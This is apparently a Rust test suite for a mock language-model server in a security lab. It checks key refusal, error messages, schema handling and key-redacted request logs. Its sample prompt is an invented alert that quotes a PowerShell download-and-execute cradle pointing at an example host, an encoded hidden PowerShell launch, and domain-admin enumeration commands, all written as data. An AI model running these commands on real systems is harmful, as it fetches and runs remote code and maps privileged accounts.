//! The language model's server as a client meets it: what it refuses, what it keeps, how it answers.

use std::{fs, process::Command};

use reqwest::{RequestBuilder, StatusCode};
use serde_json::{Value, json};

use crate::scene::{Answer, Scene, send};

/// A prompt of an invented alert.
pub const TEXT: &str = "ALERT title=EncodedDownload severity=High
V1 text=IEX (New-Object Net.WebClient).DownloadString('https://files.example.org/a.ps1')
H1 host=HOST-1 os=windows role=Workstation
U1 user=DOMAIN-1\\USER-1
P1 process=cmd.exe pid=41 by=U1 on=H1 path=\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe command_line=\"C:\\Windows\\system32\\cmd.exe\"
P2 process=powershell.exe pid=42 by=U1 on=H1 path=\\Device\\powershell.exe command_line=powershell.exe -nop -w hidden -enc SQBFAFgA
P3 process=whoami.exe pid=43 by=U1 on=H1 command_line=whoami /all
P4 process=net.exe pid=44 by=U1 on=H1 command_line=net group \"Domain Admins\" /domain
N1 address=203.0.113.99 port=443
F1 file=\\Device\\HarddiskVolume3\\Users\\Public\\a.ps1
E1 2026-11-25 04:18:33 UTC P1 started P2 happened
E2 2026-11-25 04:18:38 UTC P2 decoded_to V1 happened 2 times until 2026-11-25 04:18:38 UTC
E4 2026-11-25 04:18:39 UTC P2 connected_to N1 happened 4 times until 2026-11-25 04:21:23 UTC
E8 2026-11-25 04:18:40 UTC P2 wrote F1 blocked
E9 2026-11-25 04:18:54 UTC P2 started P3 happened
E10 2026-11-25 04:19:07 UTC P2 started P4 happened
RULE PowerShell fetched code and ran it [T1059.001 T1105] on E1 E1 E2
RULE Domain groups were listed [T1069.002] on E10
Q1 What did powershell.exe do?
Q2 Which addresses did it reach?";

fn object(properties: Value) -> Value {
    let names: Vec<&String> = properties.as_object().expect("an object").keys().collect();
    let required = json!(names);
    json!({"type": "object", "additionalProperties": false, "properties": properties, "required": required})
}

fn one_of(choices: &[&str]) -> Value {
    json!({"type": "string", "enum": choices})
}

/// A schema of claims about that prompt.
pub fn schema() -> Value {
    let numbers = ["E1", "E2", "E4", "E8", "E9", "E10"];
    let entities = ["H1", "U1", "P1", "P2", "P3", "P4", "N1", "F1"];
    let objects = ["V1", "H1", "U1", "P1", "P2", "P3", "P4", "N1", "F1", "none"];
    let verbs = ["started", "decoded_to", "connected_to", "wrote"];
    let looked_for = ["started", "wrote", "deleted", "connected_to", "decoded_to"];
    let evidence =
        json!({"type": "array", "minItems": 1, "maxItems": 6, "items": one_of(&numbers)});
    let relation = object(json!({
        "subject": one_of(&entities),
        "verb": one_of(&verbs),
        "object": one_of(&objects),
        "outcome": one_of(&["happened", "attempted", "blocked", "unknown"]),
        "count": one_of(&["not said", "1", "2", "4"]),
        "span": one_of(&["not said", "whole"]),
    }));
    let claim = json!({"anyOf": [
        object(json!({
            "kind": one_of(&["fact"]),
            "evidence": evidence,
            "relations": {"type": "array", "minItems": 1, "maxItems": 4, "items": relation},
            "text": {"type": "string", "minLength": 8, "maxLength": 400},
        })),
        object(json!({"kind": one_of(&["view"]), "view": one_of(&["technique"]), "evidence": evidence,
            "technique": one_of(&["T1059.001", "T1105", "T1069.002"])})),
        object(json!({"kind": one_of(&["view"]), "view": one_of(&["look_at"]), "evidence": evidence,
            "entity": one_of(&entities)})),
        object(json!({"kind": one_of(&["view"]), "view": one_of(&["question"]), "question": one_of(&["Q1", "Q2"])})),
        object(json!({"kind": one_of(&["gap"]), "entity": one_of(&entities), "looked_for": one_of(&looked_for),
            "place": one_of(&["alert", "telemetry"]), "until": one_of(&["E1", "E10", "none"])})),
    ]});
    object(json!({"claims": {"type": "array", "minItems": 1, "maxItems": 12, "items": claim}}))
}

/// A request that is as it should be.
pub fn request(text: &str) -> Value {
    json!({
        "model": "lab-colleague",
        "messages": [
            {"role": "system", "content": "Answer with JSON of the given schema and nothing else."},
            {"role": "user", "content": text},
        ],
        "response_format": {"type": "json_schema", "json_schema": {"name": "answer", "strict": true, "schema": schema()}},
        "max_tokens": 4000,
        "temperature": 0,
    })
}

/// The call, with the key.
pub fn call(scene: &Scene, body: &Value) -> RequestBuilder {
    let url = format!("{}/v1/chat/completions", scene.running.model_url);
    let request = scene.http.post(url).bearer_auth(&scene.lab.model.key);
    request.json(body)
}

pub async fn ask(scene: &Scene, body: &Value) -> Answer {
    send(call(scene, body)).await
}

/// The content of an answer that is not streamed.
pub fn content(answer: &Answer) -> Value {
    assert_eq!(answer.status, 200, "{:?}", answer.body);
    let content = &answer.body["choices"][0]["message"]["content"];
    serde_json::from_str(content.as_str().expect("a text")).expect("JSON")
}

pub async fn set(scene: &Scene, setting: Value) {
    let answer = scene.control("/model", Some(setting)).await;
    assert_eq!(answer.status, 200, "{:?}", answer.body);
}

/// The events of a stream: JSON, or the text of what is none.
pub fn events(text: &str) -> Vec<Value> {
    text.split("\n\n")
        .filter_map(|event| event.strip_prefix("data: "))
        .map(|data| serde_json::from_str(data).unwrap_or_else(|_| json!(data)))
        .collect()
}

fn with(name: &str, value: Value) -> Value {
    let mut body = request(TEXT);
    body[name] = value;
    body
}

#[tokio::test]
async fn a_request_without_the_key_is_refused_in_the_vendors_words() {
    let scene = Scene::new().await;
    let url = format!("{}/v1/chat/completions", scene.running.model_url);
    let none = send(scene.http.post(&url).json(&request(TEXT))).await;
    assert_eq!(none.status, 401);
    assert_eq!(none.body["error"]["type"], "invalid_request_error");
    let wrong = scene.http.post(&url).bearer_auth("sk-something-else");
    let wrong = send(wrong.json(&request(TEXT))).await;
    assert_eq!(
        (wrong.status, &wrong.body["error"]["code"]),
        (StatusCode::UNAUTHORIZED, &json!("invalid_api_key"))
    );
    assert!(!wrong.body.to_string().contains("something-else"));
    let text = scene
        .http
        .post(&url)
        .bearer_auth(&scene.lab.model.key)
        .body("{}");
    assert_eq!(send(text).await.status, 415);
    let models = format!("{}/v1/models", scene.running.model_url);
    let models = send(scene.http.get(models).bearer_auth(&scene.lab.model.key)).await;
    assert_eq!(models.body["data"][0]["id"], "lab-colleague");
    assert_eq!(send(scene.http.get(&url)).await.status, 405);
    assert_eq!(
        send(scene.http.post(scene.running.model_url.clone()))
            .await
            .status,
        404
    );
}

#[tokio::test]
async fn what_is_wrong_with_a_request_is_named() {
    let scene = Scene::new().await;
    let format = |schema: Value| json!({"type": "json_schema", "json_schema": {"name": "answer", "strict": true, "schema": schema}});
    let mut open = schema();
    open["additionalProperties"] = json!(true);
    let mut optional = schema();
    optional["required"] = json!([]);
    for (name, value, status, param, code) in [
        (
            "model",
            json!("other"),
            404,
            json!(null),
            json!("model_not_found"),
        ),
        (
            "model",
            json!(null),
            400,
            json!("model"),
            json!("missing_required_parameter"),
        ),
        (
            "num_ctx",
            json!(1),
            400,
            json!("num_ctx"),
            json!("unknown_parameter"),
        ),
        (
            "tools",
            json!([]),
            400,
            json!("tools"),
            json!("unsupported_parameter"),
        ),
        (
            "n",
            json!(2),
            400,
            json!("n"),
            json!("unsupported_parameter"),
        ),
        (
            "temperature",
            json!(3),
            400,
            json!("temperature"),
            json!("decimal_above_max_value"),
        ),
        (
            "temperature",
            json!("hot"),
            400,
            json!("temperature"),
            json!("invalid_type"),
        ),
        (
            "stream",
            json!("yes"),
            400,
            json!("stream"),
            json!("invalid_type"),
        ),
        (
            "stream_options",
            json!({"include_usage": true}),
            400,
            json!("stream_options"),
            json!("invalid_value"),
        ),
        (
            "max_tokens",
            json!(0),
            400,
            json!("max_tokens"),
            json!("integer_below_min_value"),
        ),
        (
            "max_completion_tokens",
            json!(9),
            400,
            json!("max_tokens"),
            json!("invalid_parameter_combination"),
        ),
        (
            "max_tokens",
            json!(130_000),
            400,
            json!("messages"),
            json!("context_length_exceeded"),
        ),
        (
            "messages",
            json!([]),
            400,
            json!("messages"),
            json!("empty_array"),
        ),
        (
            "messages",
            json!([{"role": "root", "content": "x"}]),
            400,
            json!("messages[0].role"),
            json!("invalid_value"),
        ),
        (
            "messages",
            json!([{"role": "user"}]),
            400,
            json!("messages[0].content"),
            json!("missing_required_parameter"),
        ),
        (
            "messages",
            json!([{"role": "user", "content": "x", "tool": 1}]),
            400,
            json!("messages[0].tool"),
            json!("unknown_parameter"),
        ),
        (
            "response_format",
            json!({"type": "yaml"}),
            400,
            json!("response_format.type"),
            json!("invalid_value"),
        ),
        (
            "response_format",
            json!({"type": "json_object", "schema": {}}),
            400,
            json!("response_format.schema"),
            json!("unknown_parameter"),
        ),
        (
            "response_format",
            format(open),
            400,
            json!("response_format"),
            json!(null),
        ),
        (
            "response_format",
            format(optional),
            400,
            json!("response_format"),
            json!(null),
        ),
    ] {
        let answer = ask(&scene, &with(name, value.clone())).await;
        let error = &answer.body["error"];
        assert_eq!(
            (answer.status.as_u16(), &error["param"], &error["code"]),
            (status, &param, &code),
            "{name} {value}: {error}"
        );
        assert_eq!(error["type"], "invalid_request_error");
        assert!(answer.header("x-lab-basis").is_some());
    }
    let stream_options = json!({"include_usage": true, "more": 1});
    let mut body = with("stream", json!(true));
    body["stream_options"] = stream_options;
    assert_eq!(
        ask(&scene, &body).await.body["error"]["param"],
        "stream_options.more"
    );
    let url = format!("{}/v1/chat/completions", scene.running.model_url);
    let broken = scene
        .http
        .post(url)
        .bearer_auth(&scene.lab.model.key)
        .header("content-type", "application/json");
    assert_eq!(send(broken.body("{")).await.status, 400);
}

#[tokio::test]
async fn a_schema_is_taken_in_the_form_that_the_server_knows_and_in_no_other() {
    let scene = Scene::new().await;
    let own = request(TEXT);
    let other = with(
        "response_format",
        json!({"type": "json_object", "schema": schema()}),
    );
    assert!(content(&ask(&scene, &own).await)["claims"].is_array());
    set(&scene, json!({"takes": "json_object"})).await;
    assert!(content(&ask(&scene, &other).await)["claims"].is_array());
    let refused = ask(&scene, &own).await;
    assert_eq!(refused.status, 500);
    assert!(
        refused.body["error"]["message"]
            .as_str()
            .is_some_and(|it| it.contains("literal_error"))
    );
    set(&scene, json!({"refuses": ["minLength"]})).await;
    let refused = ask(&scene, &own).await;
    assert_eq!(refused.status, 400);
    assert!(
        refused.body["error"]["message"]
            .as_str()
            .is_some_and(|it| it.contains("'minLength' is not permitted"))
    );
    set(&scene, json!({"limits": "max_completion_tokens"})).await;
    assert_eq!(
        ask(&scene, &own).await.body["error"]["code"],
        "unsupported_parameter"
    );
    set(&scene, json!({"context_tokens": 500})).await;
    assert_eq!(
        ask(&scene, &own).await.body["error"]["code"],
        "context_length_exceeded"
    );
}

#[tokio::test]
async fn requests_are_kept_byte_for_byte_and_without_the_key() {
    let scene = Scene::new().await;
    let body = "{ \"model\":\"lab-colleague\",\n\t\"messages\":[{\"role\":\"user\",\"content\":\"h\\u00e9\"}] }";
    let url = format!("{}/v1/chat/completions", scene.running.model_url);
    let sent = scene
        .http
        .post(&url)
        .bearer_auth(&scene.lab.model.key)
        .header("content-type", "application/json")
        .header("x-mine", "a");
    assert_eq!(send(sent.body(body)).await.status, 200);
    let bytes = vec![b'{', 0xff, b'}'];
    let strange = scene
        .http
        .post(&url)
        .bearer_auth(&scene.lab.model.key)
        .header("content-type", "application/json");
    assert_eq!(send(strange.body(bytes)).await.status, 400);
    let kept = scene
        .control("/model/requests/wait?count=2&timeout_ms=30000", None)
        .await
        .body;
    assert_eq!(
        (kept[0]["body"].as_str(), &kept[0]["status"]),
        (Some(body), &json!(200))
    );
    assert_eq!(
        (&kept[0]["path"], &kept[0]["headers"]["x-mine"]),
        (&json!("/v1/chat/completions"), &json!("a"))
    );
    assert_eq!(kept[0]["headers"]["authorization"], "Bearer ***");
    assert_eq!(
        (&kept[1]["body"], &kept[1]["body_base64"]),
        (&json!(null), &json!("e/99"))
    );
    assert!(!kept.to_string().contains(&scene.lab.model.key));
    assert_eq!(
        scene
            .control("/model/requests/wait?count=3&timeout_ms=1", None)
            .await
            .status,
        408
    );
    send(
        scene
            .http
            .delete(format!("{}/model/requests", scene.running.control_url)),
    )
    .await;
    assert_eq!(scene.control("/model/requests", None).await.body, json!([]));
}

#[tokio::test]
async fn a_reset_makes_it_honest_again_and_forgets_what_it_saw() {
    let scene = Scene::new().await;
    set(&scene, json!({"manner": "error", "error": "overloaded"})).await;
    assert_eq!(ask(&scene, &request(TEXT)).await.status, 503);
    scene.control("/reset", Some(json!({}))).await;
    assert_eq!(scene.control("/model", None).await.body["manner"], "honest");
    assert_eq!(scene.control("/model/requests", None).await.body, json!([]));
    for nonsense in [
        json!({"manner": "kind"}),
        json!({"colour": "red"}),
        json!({"manner": "error"}),
        json!({"error": "quota"}),
        json!({"hold": "middle"}),
        json!({"count": 0}),
    ] {
        let answer = scene.control("/model", Some(nonsense.clone())).await;
        assert_eq!(answer.status, 400, "{nonsense}");
    }
}

#[test]
fn a_folder_in_the_environment_gets_a_file_of_each_request() {
    const FOLDER: &str = "ASIDE_LAB_MODEL_RECORD";
    // A process of its own: the environment is not this one's to change.
    if std::env::var_os(FOLDER).is_some() {
        let runtime = tokio::runtime::Runtime::new().expect("a runtime");
        runtime.block_on(async {
            let scene = Scene::new().await;
            assert_eq!(ask(&scene, &request("first")).await.status, 200);
            assert_eq!(ask(&scene, &request("second")).await.status, 200);
        });
        return;
    }
    let folder = tempfile::tempdir().expect("a folder");
    let place = folder.path().join("requests");
    let own = std::env::current_exe().expect("this program");
    let name = "model::a_folder_in_the_environment_gets_a_file_of_each_request";
    let mut child = Command::new(own);
    child.args([name, "--exact"]).env(FOLDER, &place);
    assert!(child.output().expect("it runs").status.success());
    let mut bodies: Vec<Value> = fs::read_dir(&place)
        .expect("the folder")
        .map(|file| fs::read(file.expect("a file").path()).expect("readable"))
        .map(|bytes| serde_json::from_slice(&bytes).expect("JSON"))
        .collect();
    bodies.sort_by_key(Value::to_string);
    assert_eq!(bodies, [request("first"), request("second")]);
}
